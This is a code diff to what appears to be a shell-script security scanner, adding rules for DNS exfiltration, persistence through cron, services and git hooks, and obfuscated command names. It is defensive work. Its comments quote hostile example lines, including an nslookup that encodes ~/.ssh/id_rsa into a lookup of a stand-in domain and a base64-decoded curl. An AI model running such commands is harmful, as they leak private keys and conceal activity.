@@ -3,7 +3,13 @@ import { type CodeFacts, emptyFacts, reportExfiltration } from './code-facts.js'
 import type { FileContext } from './file-context.js';
 import { installerSeverity } from './installer-severity.js';
 import type { Grammar } from './load-grammars.js';
-import { matchShellText } from './match-shell-text.js';
+import { judgeDnsLabel, matchShellText } from './match-shell-text.js';
+import {
+  persistenceMessage,
+  persistenceSeverity,
+  persistenceTarget,
+  REMOTE_PAYLOAD_RE,
+} from './persistence-target.js';
 import { CLOUD_METADATA_RE, METADATA_CREDENTIAL_RE, SENSITIVE_PATH_RE } from './sensitive-patterns.js';
 
 const SHELLS = /^(?:ba|z|k|da|fi)?sh$/;
@@ -39,6 +45,16 @@ const SECRET_VARIABLE_RE = /\$\{?\w*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCE
 const SOCAT_NETWORK_RE = /\b(?:tcp|udp|openssl|ssl|sctp)[46]?(?:-connect|-listen|-l)?:/i;
 const LOCAL_HOST_RE = /\/dev\/(?:tcp|udp)\/(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\$\{?\w*HOST\w*\}?)\//;
 
+/** Programs that resolve the name they are given. */
+const DNS_PROGRAMS = /^(?:nslookup|dig|drill|kdig|delv|host|resolvectl|getent|ping6?)$/;
+/** A name whose first labels come from a substitution or variable, before a fixed domain. */
+const DYNAMIC_LABEL_RE =
+  /^["']?(?:[\w-]+\.)*(\$\([\s\S]*\)|`[\s\S]*`|\$\{[^}]*\}|\$\w+)[\w-]*\.[A-Za-z][\w-]*/;
+const DECODED_NAME_RE =
+  /\bbase64\s+(?:-\w+\s+)*(?:-d|-D|--decode)\b|\bxxd\s+-r|\bopenssl\s[^)]*-d\b|\|\s*rev\b/;
+/** What a variable holds, for rules that look at where it ends up: credentials, or any command output. */
+type ShellValue = 'sensitive' | 'derived';
+
 interface Command {
   name: string;
   args: string[];
@@ -49,18 +65,26 @@ interface Command {
 export function analyzeShell(ctx: FileContext, tree: Tree, grammar: Grammar): CodeFacts {
   const facts = emptyFacts();
   const downloads = new Map<string, { line: number; text: string; decoded?: boolean }>();
+  const values = new Map<string, ShellValue>();
   for (const { name: capture, node } of grammar.query.captures(tree.rootNode)) {
     const line = node.startPosition.row + 1;
     if (capture === 'command') {
       const cmd = commandOf(node);
       checkCommand(ctx, facts, cmd, line);
       checkDownloadedRun(ctx, downloads, cmd, line);
+      checkDnsLookup(ctx, cmd, line, values);
+      checkPersistenceCommand(ctx, cmd, line);
     } else if (capture === 'pipeline') checkPipeline(ctx, facts, node, line);
     else if (capture === 'redirect') {
       checkRedirect(ctx, node, line);
       noteRedirectedDownload(downloads, node, line);
     } else if (capture === 'function') checkFunction(ctx, node, line);
-    else if (capture === 'for') checkForLoop(ctx, facts, node, line);
+    else if (capture === 'for') {
+      checkForLoop(ctx, facts, node, line);
+      noteValue(values, node.childForFieldName('variable')?.text, node.childrenForFieldName('value'));
+    } else if (capture === 'assign') {
+      noteValue(values, node.childForFieldName('name')?.text, [node.childForFieldName('value')]);
+    }
   }
   reportExfiltration(ctx, facts);
   return facts;
@@ -145,6 +169,107 @@ function noteRedirectedDownload(
   }
 }
 
+/** `d=$(base64 ~/.ssh/id_rsa)` and `for c in $(…)`: remember what the variable carries. */
+function noteValue(values: Map<string, ShellValue>, name: string | undefined, nodes: (Node | null)[]): void {
+  if (name === undefined) return;
+  const text = nodes.map((n) => n?.text ?? '').join(' ');
+  const kind = valueKind(text, values);
+  if (kind === undefined) values.delete(name);
+  else values.set(name, kind);
+}
+
+function valueKind(text: string, values: ReadonlyMap<string, ShellValue>): ShellValue | undefined {
+  const named = [...text.matchAll(/\$\{?(\w+)/g)].map((m) => values.get(m[1] ?? ''));
+  if (judgeDnsLabel(text).severity === 'critical' || named.includes('sensitive')) return 'sensitive';
+  if (/\$\(|`/.test(text) || named.includes('derived')) return 'derived';
+  return undefined;
+}
+
+/** `nslookup $(base64 ~/.ssh/id_rsa | head -c 60).x.example`: the lookup carries the data to the name server. */
+function checkDnsLookup(
+  ctx: FileContext,
+  cmd: Command,
+  line: number,
+  values: ReadonlyMap<string, ShellValue>,
+): void {
+  if (!DNS_PROGRAMS.test(cmd.name)) return;
+  for (const arg of cmd.args) {
+    const label = DYNAMIC_LABEL_RE.exec(arg)?.[1];
+    if (label === undefined) continue;
+    // valueKind already weighs the label itself (a secret, a substitution) and the variables it names.
+    const kind = valueKind(label, values);
+    ctx.report('SS-EXFIL', {
+      line,
+      severity: kind === 'sensitive' ? 'critical' : kind === 'derived' ? 'high' : 'medium',
+      message:
+        kind === 'sensitive'
+          ? 'encodes credentials or secrets into a DNS name it resolves (DNS exfiltration)'
+          : 'builds a DNS name from data and resolves it (the lookup carries the data away)',
+    });
+  }
+}
+
+/** The whole statement a command belongs to (`(crontab -l; echo …) | crontab -`), where its input is written. */
+function statementText(node: Node): string {
+  let top = node;
+  for (
+    let n = node.parent;
+    n !== null && /^(?:pipeline|redirected_statement|subshell|list)$/.test(n.type);
+    n = n.parent
+  )
+    top = n;
+  return top.text;
+}
+
+/**
+ * Commands that install something to run again later: profile and cron writes through `tee`/`cp`,
+ * `crontab -`, `systemctl --user enable`, `launchctl load`, and git's global hook settings.
+ */
+function checkPersistenceCommand(ctx: FileContext, cmd: Command, line: number): void {
+  const { name, args } = cmd;
+  const operands = args.filter((a) => !a.startsWith('-')).map((a) => a.replace(/^["']|["']$/g, ''));
+  let target: ReturnType<typeof persistenceTarget>;
+  let how = 'writes to';
+  if (name === 'tee') target = operands.map((a) => persistenceTarget(a)).find((t) => t !== undefined);
+  else if (/^(?:cp|mv|install|ln|rsync)$/.test(name)) target = persistenceTarget(operands.at(-1) ?? '');
+  else if (name === 'sed' && args.some((a) => /^-\w*i/.test(a))) {
+    target = persistenceTarget(operands.at(-1) ?? '');
+    how = 'edits';
+  }
+  const payload = statementText(cmd.node);
+  if (target !== undefined) {
+    ctx.report('SS-PERSISTENCE', {
+      line,
+      severity: persistenceSeverity(target, payload),
+      message: persistenceMessage(target, payload, how),
+    });
+    return;
+  }
+  const registers =
+    (name === 'crontab' &&
+      !args.some((a) => /^-[lre]$/.test(a)) &&
+      (args.length > 0 || payload !== cmd.node.text)) ||
+    (name === 'systemctl' && args.includes('--user') && args.some((a) => a === 'enable' || a === 'link')) ||
+    (name === 'launchctl' && /^(?:load|bootstrap|submit)$/.test(args[0] ?? '')) ||
+    (name === 'git' &&
+      args[0] === 'config' &&
+      args.some((a) => a === '--global' || a === '--system') &&
+      args.some((a) => a === 'core.hooksPath' || a === 'init.templateDir'));
+  if (!registers) return;
+  const what =
+    name === 'crontab'
+      ? 'installs a crontab (runs again on a schedule)'
+      : name === 'git'
+        ? 'points every git repository of the user at its own hooks'
+        : 'registers a service or agent that starts at every login';
+  const remote = REMOTE_PAYLOAD_RE.test(payload);
+  ctx.report('SS-PERSISTENCE', {
+    line,
+    severity: remote ? 'critical' : 'high',
+    message: remote ? `${what}, with a line that fetches remote code` : what,
+  });
+}
+
 function commandOf(node: Node): Command {
   const nameNode = node.childForFieldName('name');
   const words = [nameNode?.text ?? '', ...node.childrenForFieldName('argument').map((a) => a?.text ?? '')];
@@ -183,6 +308,10 @@ function checkCommand(ctx: FileContext, facts: CodeFacts, cmd: Command, line: nu
       severity: installerSeverity(nameNode.text),
       message: 'runs the output of a download as a command',
     });
+  }
+  // `$(echo Y3VybA== | base64 -d) …`: the program's own name is decoded at run time.
+  if (nameNode !== null && /^(?:\$\(|`)/.test(nameNode.text) && DECODED_NAME_RE.test(nameNode.text)) {
+    ctx.report('SS-OBFUSCATION', { line, message: 'runs a command whose name is decoded at run time' });
   }
   facts.processLines.push(line);
   if (NETWORK.test(name)) facts.networkLines.push(line);
@@ -398,6 +527,17 @@ function isDecoder(cmd: Command): boolean {
 
 function checkRedirect(ctx: FileContext, node: Node, line: number): void {
   const text = node.text;
+  for (const redirect of node.childrenForFieldName('redirect')) {
+    if (redirect?.type !== 'file_redirect' || !/^\d*(?:>>?|&>>?|>\|)/.test(redirect.text)) continue;
+    const destination = redirect.childForFieldName('destination')?.text.replace(/^["']|["']$/g, '') ?? '';
+    const target = persistenceTarget(destination);
+    if (target === undefined) continue;
+    ctx.report('SS-PERSISTENCE', {
+      line,
+      severity: persistenceSeverity(target, text),
+      message: persistenceMessage(target, text, 'writes to'),
+    });
+  }
   if (/\/dev\/(?:tcp|udp)\//.test(text)) {
     const body = node.childForFieldName('body');
     const cmd = body?.type === 'command' ? commandOf(body) : undefined;
